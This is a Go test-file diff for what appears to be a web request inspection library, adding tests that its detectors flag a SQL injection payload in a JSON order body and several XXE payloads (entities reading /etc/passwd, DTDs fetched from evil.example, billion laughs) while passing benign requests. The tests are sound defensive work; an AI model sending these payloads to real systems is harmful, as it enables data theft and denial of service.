@@ -1,6 +1,7 @@
 package inspect_test
 
 import (
+	"strings"
 	"testing"
 
 	"github.com/vigil-project/vigil/detect"
@@ -53,6 +54,46 @@ func TestRequestFindsAttackInQueryWithItsKeyPath(t *testing.T) {
 			}
 			if f.Kind != inspect.KindNone && (f.KeyPath() != c.keyPath || f.Loc != inspect.LocQuery) {
 				t.Errorf("at %s %q, want query %q", f.Loc, f.KeyPath(), c.keyPath)
+			}
+		})
+	}
+}
+
+func TestRequestFindsAttackInJSONBodyWithItsKeyPath(t *testing.T) {
+	in := inspect.New(inspect.Config{})
+	body := `{"customer":{"name":"Ann"},"items":[{"sku":"A1","note":"gift"},{"sku":"B2","note":"' UNION SELECT password FROM users--"}]}`
+	f := in.Request(&inspect.RequestView{Method: "POST", Path: "/orders", ContentType: "application/json", Body: []byte(body)}, nil)
+	if f.Kind != inspect.SQLInjection || f.KeyPath() != "body.items[].note" || f.Loc != inspect.LocBody {
+		t.Fatalf("finding %v at %s %q, want sql_injection at body.items[].note", f.Kind, f.Loc, f.KeyPath())
+	}
+	if !strings.Contains(f.Excerpt(), "UNION SELECT") {
+		t.Errorf("excerpt %q", f.Excerpt())
+	}
+	benign := `{"customer":{"name":"Ann O'Neil","email":"ann@example.com"},"items":[{"sku":"A1","qty":2,"note":"ring the bell; thanks"}],"total":12.5}`
+	if f := in.Request(&inspect.RequestView{Method: "POST", Path: "/orders", ContentType: "application/json", Body: []byte(benign)}, nil); f.Kind != inspect.KindNone {
+		t.Errorf("benign order flagged %v (%s) at %q", f.Kind, f.Detector, f.KeyPath())
+	}
+}
+
+func TestXXEInXMLBodies(t *testing.T) {
+	in := inspect.New(inspect.Config{})
+	cases := []struct {
+		name, ct, body string
+		want           inspect.Kind
+	}{
+		{"external entity", "application/xml", `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`, inspect.XXE},
+		{"parameter entity", "text/xml", `<!DOCTYPE d [<!ENTITY % p PUBLIC "x" "http://evil.example/x.dtd"> %p;]><d/>`, inspect.XXE},
+		{"external dtd, no type", "", `<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://evil.example/r.dtd"><r/>`, inspect.XXE},
+		{"billion laughs", "application/soap+xml", `<!DOCTYPE l [<!ENTITY a "x"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&b;">]><l>&c;</l>`, inspect.XXE},
+		{"xxe in a form field", "application/x-www-form-urlencoded", `doc=%3C!DOCTYPE+x+%5B%3C!ENTITY+e+SYSTEM+%22file%3A%2F%2F%2Fetc%2Fhostname%22%3E%5D%3E%3Cx%3E%26e%3B%3C%2Fx%3E`, inspect.XXE},
+		{"plain xml", "application/xml", `<?xml version="1.0"?><order><id>7</id><note>two &amp; three</note></order>`, inspect.KindNone},
+		{"internal dtd", "application/xml", `<!DOCTYPE note [<!ELEMENT note (#PCDATA)>]><note>hi</note>`, inspect.KindNone},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			f := in.Request(&inspect.RequestView{Method: "POST", Path: "/x", ContentType: c.ct, Body: []byte(c.body)}, nil)
+			if f.Kind != c.want {
+				t.Errorf("kind %v (%s), want %v", f.Kind, f.Detector, c.want)
 			}
 		})
 	}
